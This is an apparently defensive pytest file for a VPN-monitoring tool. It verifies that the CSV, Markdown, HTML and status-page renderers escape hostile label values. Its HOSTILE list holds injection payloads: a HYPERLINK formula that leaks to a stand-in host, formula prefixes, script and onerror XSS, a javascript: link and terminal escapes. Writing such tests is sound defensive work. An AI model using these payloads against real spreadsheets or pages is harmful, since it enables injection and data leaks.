"""Label values are hostile: every report format must show them as text, never act on them.

Prometheus stores what any scraped exporter wrote, so a site, target or failure name can be a
spreadsheet formula, HTML, Markdown or a terminal escape. Each format is read back the way its
reader would: CSV by a CSV reader (no cell may start a formula), Markdown rendered by a
CommonMark parser with GitHub's tables (each row keeps its cells, no HTML or link appears), HTML
and the rendered Markdown in headless Chromium (no script, no console message, no request).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests.report import chromium
from tests.report.test_incidents import series
from tests.report.test_render import make_report
from vpnwatch.report.narrative import Report
from vpnwatch.report.render_html import render_html
from vpnwatch.report.render_text import (
    CSV_COLUMNS,
    FORMULA_STARTS,
    markdown_code,
    markdown_text,
    render_csv,
    render_json,
    render_markdown,
)
from vpnwatch.status.board import build_board
from vpnwatch.status.render import render_status

#: What the independent battery used, and what each format's readers act on.
HOSTILE = (
    '=HYPERLINK("http://x.invalid/?leak","click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "<script>document.title='pwned'</script>",
    '<img src="http://x.invalid/p.png" onerror="alert(1)">',
    "a|b|c",
    "two\nlines",
    "\x1b[31mred\x1b[0m",
    "**bold** _em_ ~~gone~~",
    "[click](javascript:alert(1))",
    "![img](http://x.invalid/i.png)",
    "`code` ```fence",
    "&lt;b&gt; &amp;",
    "back\\slash\\",
    "\u202eevil\u202c",
)


@pytest.fixture(scope="module")
def report() -> Report:
    """Each hostile value as a site, a target and a failure class, all with incidents."""
    members = []
    for index, value in enumerate(HOSTILE):
        members.append(series(value, "obfs4", value, [0, 10, 10, 0], kind=(value, value)))
        members.append(series(value, "wireguard", f"t{index}", [0, 10, 10, 0]))
    return make_report(*members)


def test_csv_has_no_cell_a_spreadsheet_would_run(report: Report) -> None:
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 1 + len(report.incidents)
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    sites = {row[1] for row in rows[1:]}
    # neutralised by a leading quote, otherwise unchanged: the reader still sees the value
    assert sites == {"'" + v if v.startswith(FORMULA_STARTS) else v for v in HOSTILE}


def test_json_round_trips_every_value(report: Report) -> None:
    incidents = json.loads(render_json(report))["incidents"]
    assert {i["site"] for i in incidents} == set(HOSTILE)


def test_markdown_tables_keep_their_shape_and_make_no_markup(report: Report) -> None:
    parser = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    text = render_markdown(report)
    tokens = parser.parse(text)
    kinds = {token.type for token in tokens} | {
        child.type for token in tokens for child in token.children or ()
    }
    forbidden = {"html_block", "html_inline", "link_open", "image", "em_open", "strong_open"}
    assert not kinds & forbidden
    assert "s_open" not in kinds  # strike-through
    tables = [t for t in tokens if t.type == "table_open"]
    assert len(tables) == 2
    html = parser.render(text)
    assert "<script" not in html and "<img" not in html and "<a " not in html
    assert "\x1b" not in text and "\u202e" not in text and "\r" not in text
    # every row of the tables has the header's nine cells, whatever the labels held
    rows = [line for line in text.splitlines() if line.startswith("| ")]
    assert len(rows) == 2 + len(report.incidents)  # a header line per table, a line each
    cell_counts = _row_cell_counts(tokens)
    assert len(cell_counts) == len(rows)
    assert set(cell_counts) == {9}


def _row_cell_counts(tokens: list[Token]) -> list[int]:
    counts: list[int] = []
    for token in tokens:
        if token.type == "tr_open":
            counts.append(0)
        elif token.type in ("td_open", "th_open"):
            counts[-1] += 1
    return counts


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_text_renders_to_exactly_the_value(value: str) -> None:
    """Escaped text reads back as the value (control characters as visible escapes)."""
    parser = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    inline = parser.parseInline(markdown_text(value))[0].children or []
    shown = "".join(child.content for child in inline if child.type == "text")
    assert {child.type for child in inline} <= {"text", "softbreak"}
    if value.isprintable():
        assert shown == value


@pytest.mark.parametrize("value", ["`", "a``b", "``x``", '{site="`"}'])
def test_markdown_code_spans_hold_any_backticks(value: str) -> None:
    parser = MarkdownIt("commonmark")
    inline = parser.parseInline(markdown_code(value))[0].children or []
    assert [child.type for child in inline] == ["code_inline"]
    assert inline[0].content == value


def _status_page(report: Report) -> str:
    """The status page of the same incidents, each hostile value also a target and endpoint."""
    endpoints = {
        (site, protocol): tuple((value, value) for value in HOSTILE)
        for site in report.analysis.sites
        for protocol in report.analysis.protocols_at(site)
    }
    board = build_board(
        report.analysis,
        now=report.end,
        days=1,
        zone=report.zone,
        zone_name=report.zone_name,
        endpoints=endpoints,
    )
    return render_status(board, report.messages, days=1)


def test_the_status_page_escapes_names_and_endpoints(report: Report) -> None:
    page = _status_page(report)
    assert "<script" not in page.lower() and "<img" not in page.lower()
    assert "&lt;script&gt;document.title=&#x27;pwned&#x27;&lt;/script&gt;" in page


def test_reports_open_in_chromium_without_running_anything(report: Report, tmp_path: Path) -> None:
    """The HTML report, the status page, and the Markdown as GitHub would render it: no script,
    no request."""
    parser = MarkdownIt("commonmark").enable("table")
    pages = {
        "report.html": render_html(report),
        "status.html": _status_page(report),
        "markdown.html": f"<!doctype html><meta charset=utf-8><title>md</title>"
        f"{parser.render(render_markdown(report))}",
    }
    for name, text in pages.items():
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        page = chromium.open_page(path)
        assert page.console == [], name
        assert "<script" not in page.dom.lower(), name
        assert "<img" not in page.dom.lower(), name
        assert "pwned" not in page.dom.split("</title>")[0], name
